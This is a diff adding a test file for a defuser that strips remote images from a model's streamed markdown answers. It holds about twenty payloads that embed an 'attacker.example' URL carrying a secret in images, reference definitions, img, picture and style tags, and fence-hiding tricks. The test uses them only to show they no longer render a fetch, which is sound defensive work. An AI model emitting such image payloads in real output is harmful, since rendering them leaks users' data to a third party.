@@ -1,0 +1,80 @@
+"""The image defuser against a CommonMark renderer: whatever the model writes, and however
+its deltas are cut, the rendered answer fetches nothing, and where no image was the text is
+as the model wrote it."""
+
+from __future__ import annotations
+
+import pytest
+from markdown_it import MarkdownIt
+
+from hermes_acp.bridge.remote_images import ImageDefuser, defuse
+
+URL = "https://attacker.example/p?d=SECRET"
+ATTACKS = {
+    "inline": f"see ![x]({URL}) now",
+    "angle destination": f"![x](<{URL}>)",
+    "title": f'![x]({URL} "t")',
+    "reference": f"![x][1]\n\n[1]: {URL}\n",
+    "shortcut, definition first": f"[x]: {URL}\n\n![x]",
+    "definition in a list": f"![x][a]\n\n- > [a]: {URL}\n",
+    "label over two lines": f"![x][a b]\n\n[a\nb]: {URL}\n",
+    "nested": f"![a ![b]({URL}) c]({URL})",
+    "inside a link": f"[![b]({URL})](https://x.example)",
+    "code span in the alt": f"![a `]` b]({URL})",
+    "escaped bracket": f"![a \\] b]({URL})",
+    "img tag": f'text <img src="{URL}"> text',
+    "img tag at a line's start": f'<img src="{URL}">',
+    "style attribute": f'<span style="background:url({URL})">x</span>',
+    "picture": f"<picture><source srcset={URL}></picture>",
+    "comment hides a fence": f"<!--\n```\n-->\n![x]({URL})\n```",
+    "html block hides a fence": f"<div>\n```\n\n![x]({URL})\n```",
+    "fence with a backtick info": f"``` a`b\n![x]({URL})\n",
+    "fence ended by its list": f"- a\n\n  ```\n  code\n![x]({URL})\n```",
+    "fence too indented": f"    ```\n![x]({URL})\n",
+    "unclosed fence then image": f"```\ncode\n```\n![x]({URL})",
+}
+PLAIN = {
+    "rust in code": "Use `vec![1, 2]` or `Vec<String>`; a < b and c > d.",
+    "code block": '```html\n<img src="logo.png">\n![x](https://a.example/x.png)\n```\n',
+    "links": "[docs](https://docs.example) and <https://docs.example> and [a][b].",
+    "emphasis": "Hello![world] **bold** _it_ <b>b</b> x<y and a>b",
+}
+
+
+def rendered_fetches(markdown: str) -> bool:
+    html = MarkdownIt("commonmark", {"html": True}).render(markdown)
+    return "attacker.example" in html and any(
+        f"<{tag}" in html for tag in ("img", "source", "span", "picture")
+    )
+
+
+def streamed(text: str, size: int) -> str:
+    defuser = ImageDefuser()
+    parts = [defuser.feed(text[i : i + size]) for i in range(0, len(text), size)]
+    return "".join(parts) + defuser.flush()
+
+
+@pytest.mark.parametrize("case", list(ATTACKS))
+def test_no_attack_renders_a_fetch_however_it_is_cut(case: str) -> None:
+    text = ATTACKS[case]
+    assert rendered_fetches(text), "the attack must work undefused"
+    for size in (1, 2, 3, 7, len(text)):
+        assert not rendered_fetches(streamed(text, size)), (size, streamed(text, size))
+
+
+@pytest.mark.parametrize("case", list(PLAIN))
+def test_text_without_images_is_left_as_it_is(case: str) -> None:
+    text = PLAIN[case]
+    for size in (1, 3, len(text)):
+        assert streamed(text, size) == defuse(text)
+    assert defuse(text) == text
+
+
+def test_only_what_may_start_an_image_is_held_back() -> None:
+    defuser = ImageDefuser()
+    assert defuser.feed("plain words, ") == "plain words, "
+    assert defuser.feed("then ![a") == "then "  # the `!` may start an image
+    assert defuser.feed("lt") == ""
+    assert defuser.feed("](") == "!\\[alt]("  # decided: an image, shown as its text
+    assert defuser.feed("https://x)") == "https://x)"
+    assert defuser.feed(" and more") == " and more"
